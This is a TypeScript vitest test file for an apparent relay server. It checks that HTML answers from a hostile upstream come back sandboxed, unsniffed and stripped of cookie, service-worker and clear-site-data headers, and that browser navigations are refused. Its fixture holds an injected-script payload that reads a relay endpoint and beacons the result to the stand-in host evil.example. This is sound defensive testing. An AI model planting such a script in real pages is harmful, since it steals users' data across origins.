// A hostile target answers a relayed request with HTML and script, its own CSP allowing
// inline script, cookies for our origin, a wider service-worker scope and Clear-Site-Data.
// None of that may act on the inspector's origin: the answer is a sandboxed, unsniffed
// non-document, the dangerous headers are dropped, and a browser load of any relay URL
// other than a fetch (Sec-Fetch-Dest other than `empty`) is refused. Clients that send no
// Sec-Fetch-* headers at all (MCP clients in Node) still get through.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { putTargets, send, startRelay, startUpstream, TOKEN, type RelayHarness, type Upstream } from './relay-harness.js';

const HOSTILE_HTML = '<!doctype html><script>fetch("/relay/api/info").then(r=>r.text()).then(t=>navigator.sendBeacon("http://evil.example/",t))</script><script src="?js=1"></script>';

describe('relayed answers are never active content', () => {
  let h: RelayHarness;
  let upstream: Upstream;
  beforeAll(async () => {
    h = await startRelay();
    upstream = await startUpstream((req, res) => {
      req.resume();
      req.on('end', () =>
        res.writeHead(200, {
          'content-type': 'text/html',
          'content-security-policy': "script-src 'unsafe-inline' 'self'",
          'content-security-policy-report-only': "default-src 'none'",
          'set-cookie': 'stolen=1; Path=/',
          'service-worker-allowed': '/',
          'clear-site-data': '"storage"',
          'x-content-type-options': 'sniff-me',
          'mcp-session-id': 'kept',
        }).end(HOSTILE_HTML),
      );
    });
    expect((await putTargets(h, [{ id: 'evil', url: upstream.url }])).status).toBe(200);
  });
  afterAll(async () => {
    await upstream.close();
    await h.close();
  });

  const expectInert = (headers: Record<string, unknown>) => {
    expect(headers['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    for (const dropped of ['set-cookie', 'service-worker-allowed', 'clear-site-data', 'content-security-policy-report-only']) expect(headers, dropped).not.toHaveProperty(dropped);
  };

  it('an external client (no Sec-Fetch-* headers) gets the body, sandboxed, without the dangerous headers', async () => {
    const r = await send(h.port, { method: 'POST', path: `/relay/${TOKEN}/evil`, headers: { 'content-type': 'application/json' }, body: '{}' });
    expect(r.status).toBe(200);
    expect(r.text).toBe(HOSTILE_HTML);
    expect(r.headers['mcp-session-id']).toBe('kept');
    expectInert(r.headers);
  });

  it("the page's forwarder answers the same way", async () => {
    const r = await send(h.port, { method: 'POST', path: '/relay/api/forward/evil', headers: { origin: h.origin, 'sec-fetch-dest': 'empty', 'sec-fetch-mode': 'cors', 'sec-fetch-site': 'same-origin' }, body: '{}' });
    expect(r.status).toBe(200);
    expectInert(r.headers);
  });

  it('refuses a browser navigation, frame or script load of any relay or demo URL', async () => {
    const paths = [`/relay/${TOKEN}/evil`, `/relay/${TOKEN}/evil?js=1`, '/relay/api/forward/evil', '/relay/api/info', '/relay/api/backlog', '/demo/mcp'];
    for (const dest of ['document', 'iframe', 'script', 'style', 'worker', 'image', 'object']) {
      for (const path of paths) {
        const r = await send(h.port, { path, headers: { 'sec-fetch-dest': dest, 'sec-fetch-mode': dest === 'document' ? 'navigate' : 'no-cors', 'sec-fetch-site': 'same-origin', origin: h.origin } });
        expect(r.status, `${dest} ${path}`).toBe(403);
        expect(r.json().error).toMatch(/fetch requests only/);
        expect(r.text).not.toContain('<script');
        expectInert(r.headers);
      }
    }
  });

  it('page API answers and refusals are inert too', async () => {
    const info = await send(h.port, { path: '/relay/api/info', headers: { origin: h.origin } });
    expect(info.status).toBe(200);
    expectInert(info.headers);
    const refused = await send(h.port, { path: `/relay/${TOKEN}/nope` });
    expect(refused.status).toBe(404);
    expectInert(refused.headers);
  });
});
